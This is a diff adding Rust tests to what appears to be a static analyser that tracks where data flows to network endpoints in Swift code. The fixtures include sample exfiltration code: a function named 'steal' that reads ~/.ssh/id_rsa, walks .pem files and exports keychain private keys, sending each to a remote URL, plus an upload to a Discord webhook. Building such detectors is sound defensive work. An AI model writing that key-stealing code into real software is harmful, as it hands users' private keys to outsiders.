@@ -415,3 +415,67 @@ fn deep_nesting_does_not_overflow() {
         .unwrap();
     assert_eq!(flows, 0);
 }
+
+/// Every sink's host, in order, for sinks whose URL was resolved.
+fn hosts(source: &str) -> Vec<String> {
+    flows_with(source, &Config::default())
+        .sinks
+        .iter()
+        .filter_map(|s| s.destination.host())
+        .collect()
+}
+
+#[test]
+fn url_passed_into_a_helper_resolves_at_each_call() {
+    let source = r#"
+func post(_ body: Data, to endpoint: String) {
+    URLSession.shared.uploadTask(with: URLRequest(url: URL(string: endpoint + "/v1")!), from: body).resume()
+}
+func relay(_ body: Data, via hook: String) {
+    post(body, to: hook)
+}
+func good() { relay(Data(), via: "https://api.example.com") }
+func bad() { post(Data(), to: "https://discord.com/api/webhooks/1/x") }
+"#;
+    assert_eq!(hosts(source), ["api.example.com", "discord.com"]);
+}
+
+#[test]
+fn helper_called_nowhere_keeps_an_unknown_destination() {
+    let source = r#"
+func post(_ body: Data, to endpoint: String) {
+    URLSession.shared.uploadTask(with: URLRequest(url: URL(string: endpoint)!), from: body).resume()
+}
+"#;
+    let flows = flows_with(source, &Config::default());
+    assert_eq!(flows.sinks.len(), 1);
+    assert_eq!(flows.sinks[0].destination.host(), None);
+}
+
+#[test]
+fn key_files_by_path_by_walk_and_by_keychain_export() {
+    let source = r#"
+func steal(_ privateKey: SecKey, _ publicKey: SecKey) {
+    let ssh = try! String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa")
+    AF.request(u, parameters: ["k": ssh])
+    let pub = try! String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa.pub")
+    AF.request(u, parameters: ["k": pub])
+    for name in names where name.hasSuffix(".pem") {
+        AF.upload(FileManager.default.contents(atPath: name)!, to: u)
+    }
+    AF.upload(FileManager.default.contents(atPath: "notes.txt")!, to: u)
+    let raw = SecKeyCopyExternalRepresentation(privateKey, nil) as Data?
+    AF.request(u, parameters: ["k": raw])
+    let shared = SecKeyCopyExternalRepresentation(publicKey, nil) as Data?
+    AF.request(u, parameters: ["k": shared])
+}
+"#;
+    assert_eq!(
+        reached(source),
+        [
+            (4, vec![DataType::KeyFile]),
+            (8, vec![DataType::KeyFile]),
+            (12, vec![DataType::KeyFile]),
+        ]
+    );
+}
